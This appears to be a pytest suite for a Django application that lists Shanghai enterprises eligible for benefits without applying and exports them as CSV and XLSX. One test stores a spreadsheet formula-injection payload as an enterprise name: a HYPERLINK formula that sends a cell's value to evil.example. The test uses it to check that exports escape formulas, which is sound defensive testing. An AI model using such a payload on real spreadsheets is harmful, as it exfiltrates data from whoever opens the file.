"""免申即享: enterprises that meet every condition on register data alone, and the exports."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from applications import selectors
from applications.selectors import _monotone
from applications.tests.support import lease_benefit, lessee
from enterprises.models import Enterprise
from enterprises.tests.factories import EnterpriseFactory
from matching import selectors as matching_selectors

pytestmark = pytest.mark.django_db


@pytest.fixture
def population(world):
    """Besides the world's two self-declared lessees (6000 m², eligible on all data):"""
    outside = lessee(name="上海登记丁有限公司", source="register")
    Enterprise.objects.filter(pk=outside.pk).update(district="浦东新区")  # register data, outside Minhang
    return {
        # identity and project from the register: qualifies on authoritative data alone
        "register": lessee(name="上海登记甲有限公司", source="register"),
        # register identity, self-declared project: eligible, but not on authoritative data
        "mixed": lessee(name="上海混合乙有限公司", source="register", project_source="self_declared"),
        # register data, but the area is below the threshold
        "small": lessee(name="上海登记丙有限公司", area="4000", source="register"),
        "outside": outside,
        "nothing": EnterpriseFactory(name="上海无项目戊有限公司", source="register"),
    }


def test_only_enterprises_meeting_every_condition_on_register_data_are_listed(world, population):
    result = selectors.auto_grant_list(world.benefit, timezone.localdate())
    assert [row.enterprise.name for row in result.rows] == ["上海登记甲有限公司"]
    assert result.prefiltered
    assert result.met_on_all_data == 4  # on all data: the world's two, "register" and "mixed"
    row = result.rows[0]
    assert row.verdict.status.slug == "eligible" and row.verdict.amount.value == Decimal("10000000")
    assert {reason.source for reason in row.verdict.reasons} == {"register"}


def test_the_list_agrees_with_the_engine_run_per_enterprise_on_register_facts(world, population):
    """The prefiltered set-wise path gives the same list as explaining every enterprise."""
    from enterprises.facts import facts_for
    from matching.engine import explain

    as_of = timezone.localdate()
    catalog = matching_selectors.catalog()
    spec = matching_selectors.spec_for(world.benefit)
    expected = set()
    for enterprise in Enterprise.objects.all():
        sheet = facts_for(enterprise, as_of, catalog=catalog)
        facts = selectors.authoritative_facts(sheet.values, sheet.sources)
        if explain(spec, facts, as_of=as_of, catalog=catalog).status.slug in (
            "eligible",
            "pending_recognition",
        ):
            expected.add(enterprise.pk)
    got = {row.enterprise.pk for row in selectors.auto_grant_list(world.benefit, as_of).rows}
    assert got == expected == {population["register"].pk}


def test_a_condition_with_exists_false_is_not_prefiltered():
    assert _monotone(
        {"all": [{"fact": "a", "op": "gte", "value": 1}, {"fact": "b", "op": "exists", "value": True}]}
    )
    assert not _monotone({"fact": "b", "op": "exists", "value": False})
    assert not _monotone({"not": {"fact": "b", "op": "exists", "value": True}})
    assert _monotone({"not": {"not": {"fact": "b", "op": "exists", "value": True}}})
    assert _monotone(None)


def test_exists_false_conditions_still_give_the_exact_list(world, population):
    benefit = lease_benefit(
        condition={
            "all": [
                {"fact": "located_in_minhang", "op": "eq", "value": True, "quote": "闵行"},
                {"fact": "output_value", "op": "exists", "value": False, "quote": "无产值"},
            ]
        }
    )
    result = selectors.auto_grant_list(benefit, timezone.localdate())
    assert not result.prefiltered
    # Minhang on register data, output value unknown there: every register enterprise but "outside"
    assert {row.enterprise.name for row in result.rows} == {
        "上海登记甲有限公司",
        "上海混合乙有限公司",
        "上海登记丙有限公司",
        "上海无项目戊有限公司",
    }


def test_a_benefit_out_of_force_lists_nobody(world, population):
    document = world.benefit.clause.document
    document.status = "superseded"
    document.save()
    result = selectors.auto_grant_list(world.benefit, timezone.localdate())
    assert (result.validity, result.rows) == ("superseded", [])


def test_page_and_exports(world, population, client):
    client.force_login(world.reviewer)
    url = reverse("applications:auto_grant")
    assert client.get(url).status_code == 200
    page = client.get(url, {"benefit": world.benefit.pk})
    html = page.content.decode()
    assert page.status_code == 200 and "上海登记甲有限公司" in html and "上海混合乙有限公司" not in html
    assert 'id="export-csv"' in html and 'id="export-xlsx"' in html

    exported = client.get(url, {"benefit": world.benefit.pk, "format": "csv"})
    assert exported["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["企业名称", "统一社会信用代码", "申报事项"]
    assert [row[0] for row in rows[1:]] == ["上海登记甲有限公司"]
    # not paid per item: the item column is blank
    assert rows[1][1] == population["register"].credit_code and rows[1][2] == "" and rows[1][6] == "1000"

    workbook = load_workbook(
        io.BytesIO(client.get(url, {"benefit": world.benefit.pk, "format": "xlsx"}).content)
    )
    sheet = workbook.active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "企业名称" and values[1][0] == "上海登记甲有限公司" and values[1][6] == 1000


def test_candidates_read_in_several_chunks_give_the_same_list(world, population, monkeypatch):
    as_of = timezone.localdate()
    whole = selectors.auto_grant_list(world.benefit, as_of)
    monkeypatch.setattr(selectors, "AUTO_GRANT_CHUNK", 2)  # 4 candidates: two set-wise reads
    chunked = selectors.auto_grant_list(world.benefit, as_of)
    assert [(row.enterprise.pk, row.verdict) for row in chunked.rows] == [
        (row.enterprise.pk, row.verdict) for row in whole.rows
    ]
    assert [row.enterprise.name for row in chunked.rows] == ["上海登记甲有限公司"]


def test_exports_write_a_formula_name_as_text(world, population, client):
    attack = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
    Enterprise.objects.filter(pk=population["register"].pk).update(name=attack)
    client.force_login(world.reviewer)
    url = reverse("applications:auto_grant")
    exported = client.get(url, {"benefit": world.benefit.pk, "format": "csv"})
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + attack  # a spreadsheet shows it as text
    workbook = load_workbook(
        io.BytesIO(client.get(url, {"benefit": world.benefit.pk, "format": "xlsx"}).content)
    )
    cell = workbook.active["A2"]
    assert cell.value == attack and cell.data_type == "s"


@pytest.mark.parametrize(
    ("state", "listed"),
    [
        ("draft", False),
        ("under_review", False),
        ("approved", False),
        ("rejected", False),
        ("withdrawn", True),
    ],
)
def test_an_enterprise_with_an_open_or_decided_application_is_left_out(
    world, population, client, state, listed
):
    """Issue 14, step 6: 免申即享 does not offer what the enterprise already applies for, or got decided."""
    from applications.models import Application
    from enterprises.tests.factories import MembershipFactory

    register = population["register"]
    user = MembershipFactory(enterprise=register).user
    from applications import services

    application = services.create_draft(actor=user, enterprise_id=register.pk, benefit_id=world.benefit.pk)
    Application.objects.filter(pk=application.pk).update(state=state)
    result = selectors.auto_grant_list(world.benefit, timezone.localdate())
    assert ([row.enterprise.name for row in result.rows] == ["上海登记甲有限公司"]) is listed
    assert result.already_applied == (0 if listed else 1)
    client.force_login(world.reviewer)
    page = client.get(reverse("applications:auto_grant"), {"benefit": world.benefit.pk}).content.decode()
    assert ("已就该项目申报（办理中或已审结），按申报办理，未列入" in page) is not listed
